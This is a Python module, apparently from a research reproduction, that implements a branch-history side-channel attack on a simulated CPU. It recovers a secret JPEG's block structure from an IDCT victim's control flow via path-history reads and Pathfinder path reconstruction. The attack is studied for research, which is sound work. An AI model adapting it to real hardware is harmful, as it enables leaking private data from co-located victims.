"""The Section 8 image-recovery attack, end to end.

Pipeline (matching the paper's "Attack Scenario"):

1. the victim decodes a secret JPEG; its IDCT control flow depends on
   which coefficient rows/columns are constant;
2. the attacker captures the *entire* control-flow history with
   ``Extended_Read_PHR`` (the history far exceeds the 194-branch PHR);
3. Pathfinder turns the history into the executed path, yielding the
   outcome of every row/column constancy branch;
4. each 8x8 block is assigned its normalised count of non-constant
   rows/columns, producing the Figure 7 style recovered image (which the
   paper notes resembles an edge detection of the original) -- plus the
   precise per-row/column constancy the paper highlights over prior work.
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import List, Optional, Tuple

import numpy as np

from repro.cpu.machine import Machine
from repro.isa.identity import (content_key, machine_digest, profile_digest,
                                program_digest)
from repro.isa.interpreter import BranchKind, BranchRecord, CpuState
from repro.isa.memory import Memory
from repro.jpeg.codec import EncodedImage, JpegCodec
from repro.jpeg.idct_victim import IdctVictim
from repro.jpeg.images import block_complexity_image
from repro.pathfinder import cached_cfg, cached_path_search
from repro.primitives.extended_read import ExtendedPhrReader, TakenBranch


@dataclass
class RecoveredImage:
    """Result of one image-recovery attack."""

    #: Per-block count of non-constant rows+columns (0..16), the attack's
    #: direct output.
    complexity_map: np.ndarray
    #: Per-block boolean maps: was column/row k constant? (blocks x 8)
    column_constancy: np.ndarray
    row_constancy: np.ndarray
    #: Number of branches whose outcome was recovered.
    recovered_branches: int
    #: Probe count the extended read spent.
    probes: int

    def as_image(self) -> np.ndarray:
        """Pixel-space rendering (brighter = more complex block)."""
        return block_complexity_image(self.complexity_map)

    def as_detailed_image(self) -> np.ndarray:
        """Per-row/column rendering (the Figure 7 'colored' variant).

        The attack knows not just *how many* but *which* rows and columns
        of each block are constant; this rendering paints pixel (r, c) of
        each block by the non-constancy of its row r and column c,
        exposing directional frequency structure (horizontal vs vertical
        edges) that the scalar complexity map collapses.
        """
        blocks_v, blocks_h = self.complexity_map.shape
        row_activity = (~self.row_constancy).astype(float)      # (blocks, 8)
        col_activity = (~self.column_constancy).astype(float)   # (blocks, 8)
        # One broadcast builds every 8x8 tile; the transpose interleaves
        # the per-block tiles back into raster order.
        tiles = 127.5 * (row_activity[:, :, None] + col_activity[:, None, :])
        return (tiles.reshape(blocks_v, blocks_h, 8, 8)
                     .transpose(0, 2, 1, 3)
                     .reshape(8 * blocks_v, 8 * blocks_h))


class ImageRecoveryAttack:
    """Drives the attack against the IDCT victim on a shared machine."""

    def __init__(self, machine: Machine, codec: Optional[JpegCodec] = None,
                 extended_rounds: int = 6, idct_variant: str = "islow",
                 store=None):
        self.machine = machine
        self.codec = codec if codec is not None else JpegCodec()
        self.victim = IdctVictim(variant=idct_variant)
        self.extended_rounds = extended_rounds
        #: Optional shared snapshot store (the service's ``SnapshotStore``
        #: or any object with its ``get``/``put``).
        #: The attack's expensive prefix is the victim itself: a full
        #: IDCT interpretation (up to 20M instructions) whose post-run
        #: machine state and branch trace every later step consumes.
        #: With a store attached, that state+trace is published under a
        #: content address of (machine profile, pre-run machine state,
        #: victim program, codec parameters, encoded image), and a
        #: repeat recovery of the same image -- another attack instance,
        #: another service worker, a later run -- restores it instead of
        #: re-interpreting the victim.
        self.store = store

    # ------------------------------------------------------------------

    def _victim_run_store_key(self, encoded: EncodedImage) -> Optional[str]:
        """Content address of the post-victim-run state, or ``None``."""
        if self.store is None:
            return None
        return content_key(
            "jpeg-victim-run",
            profile_digest(self.machine.config),
            machine_digest(self.machine),
            program_digest(self.victim.program),
            self.codec.quality,
            encoded.width,
            encoded.height,
            encoded.quality,
            encoded.entropy_data,
            encoded.block_count,
        )

    def _run_victim(self, encoded: EncodedImage
                    ) -> Tuple[List[BranchRecord], int]:
        """Decode + run the IDCT victim; return its full branch trace.

        On a shared-store hit the interpretation is skipped: the machine
        restores the published post-run snapshot (bit-identical to a
        live run by the serialization round-trip property) and the
        branch records are rebuilt from the artifact metadata, field for
        field (``kind`` resolves back to the enum member, so identity
        checks like ``r.kind is BranchKind.CONDITIONAL`` still hold).
        """
        machine = self.machine
        skey = self._victim_run_store_key(encoded)
        if skey is not None:
            entry = self.store.get(skey)
            if entry is not None:
                snapshot, meta = entry
                machine.restore(snapshot)
                trace = [
                    BranchRecord(pc, BranchKind[kind], bool(taken),
                                 target, fallthrough, next_pc)
                    for pc, kind, taken, target, fallthrough, next_pc
                    in meta["trace"]
                ]
                return trace, meta["block_count"]
        coefficient_blocks = self.codec.decode_to_blocks(encoded)
        memory = Memory()
        self.victim.provision(memory, coefficient_blocks)
        machine.clear_phr()
        result = machine.run(
            self.victim.program,
            state=CpuState(),
            memory=memory,
            entry=self.victim.program.address_of("idct"),
            max_instructions=20_000_000,
        )
        if skey is not None:
            self.store.put(skey, machine.snapshot(), meta={
                "trace": [[r.pc, r.kind.name, r.taken, r.target,
                           r.fallthrough, r.next_pc]
                          for r in result.trace],
                "block_count": len(coefficient_blocks),
            })
        return result.trace, len(coefficient_blocks)

    def recover(self, encoded: EncodedImage) -> RecoveredImage:
        """Run the full attack against one encoded image."""
        # Step 1 runs the victim (or restores its published state).
        trace, block_count = self._run_victim(encoded)

        # Step 2: capture the full control-flow history.  Branch
        # identities come from the CFG-coupled reconstruction (see
        # ExtendedPhrReader's docstring); the doublet recovery itself runs
        # through the PHT-collision probes against the live machine.
        taken = [
            TakenBranch(r.pc, r.target, r.kind is BranchKind.CONDITIONAL)
            for r in trace if r.taken
        ]
        reader = ExtendedPhrReader(self.machine, rounds=self.extended_rounds)
        history = reader.read(taken)
        if not history.complete:
            raise RuntimeError("extended read failed to recover the history")

        # Step 3: Pathfinder -- history to executed path.  The search may
        # return several paths when footprints cancel across arms (the
        # paper: ambiguous results are "exceedingly rare", and the
        # candidates "typically differ in just one CFG node"); the PHT
        # state the victim's own run left behind disambiguates them.
        cfg = cached_cfg(self.victim.program,
                         entry=self.victim.program.address_of("idct"))
        search = cached_path_search(cfg, mode="exact", max_paths=4)
        paths = search.search(history.doublets)
        if not paths:
            raise RuntimeError("Pathfinder found no matching path")
        if len(paths) > 1:
            paths.sort(key=self._path_evidence, reverse=True)
        outcomes = paths[0].branch_outcomes

        # Step 4: branch outcomes -> constancy maps.
        column_pc = self.victim.column_check_pc
        row_pc = self.victim.row_check_pc
        column_flags = [taken_flag for pc, taken_flag in outcomes
                        if pc == column_pc]
        row_flags = [taken_flag for pc, taken_flag in outcomes
                     if pc == row_pc]
        expected = 8 * block_count
        if len(column_flags) != expected or len(row_flags) != expected:
            raise RuntimeError(
                f"expected {expected} column/row checks, got "
                f"{len(column_flags)}/{len(row_flags)}"
            )
        # The check branch is *taken* when the column/row is constant.
        column_constancy = np.array(column_flags).reshape(block_count, 8)
        row_constancy = np.array(row_flags).reshape(block_count, 8)
        non_constant = ((~column_constancy).sum(axis=1)
                        + (~row_constancy).sum(axis=1))

        blocks_per_row = encoded.blocks_per_row
        blocks_per_col = encoded.blocks_per_column
        complexity = non_constant.reshape(blocks_per_col, blocks_per_row)
        return RecoveredImage(
            complexity_map=complexity,
            column_constancy=column_constancy,
            row_constancy=row_constancy,
            recovered_branches=len(outcomes),
            probes=history.probes,
        )

    def _path_evidence(self, path) -> float:
        """Score a candidate path against the live PHT state.

        The victim's single execution trained each conditional branch's
        entry toward its actual outcome at its actual (PC, PHR)
        coordinate.  Replaying a candidate path and checking, at every
        claimed branch instance, whether the predictor currently agrees
        with the claimed outcome (through an aliased attacker-side
        lookup) measures how consistent the candidate is with that
        training; the true path scores highest.
        """
        from repro.cpu.phr import PathHistoryRegister
        from repro.pathfinder.cfg import EdgeKind

        machine = self.machine
        phr = PathHistoryRegister(machine.config.phr_capacity)
        agreements = 0
        total = 0
        for edge in path.edges:
            if edge.kind.is_conditional:
                alias_pc = edge.branch_pc + 0x1000_0000
                prediction = machine.cbp.predict(alias_pc, phr)
                claimed_taken = edge.kind is EdgeKind.TAKEN
                agreements += prediction.taken == claimed_taken
                total += 1
            if edge.kind.updates_phr:
                phr.update(edge.branch_pc, edge.destination)
        return agreements / total if total else 0.0

    # ------------------------------------------------------------------
    # evaluation helpers
    # ------------------------------------------------------------------

    def ground_truth_map(self, image: np.ndarray) -> np.ndarray:
        """The true per-block complexity map, from the encoder side."""
        return self.codec.constancy_map(image)

    @staticmethod
    def similarity(recovered: np.ndarray, truth: np.ndarray) -> float:
        """Pearson correlation between recovered and true maps.

        Returns 1.0 when both maps are constant and equal (the flat-image
        case, where correlation is undefined but recovery is perfect).
        """
        a = recovered.astype(float).ravel()
        b = truth.astype(float).ravel()
        if np.allclose(a.std(), 0) or np.allclose(b.std(), 0):
            return 1.0 if np.array_equal(recovered, truth) else 0.0
        return float(np.corrcoef(a, b)[0, 1])

    @staticmethod
    def exact_match_rate(recovered: np.ndarray, truth: np.ndarray) -> float:
        """Fraction of blocks whose complexity count matches exactly."""
        return float(np.mean(recovered == truth))
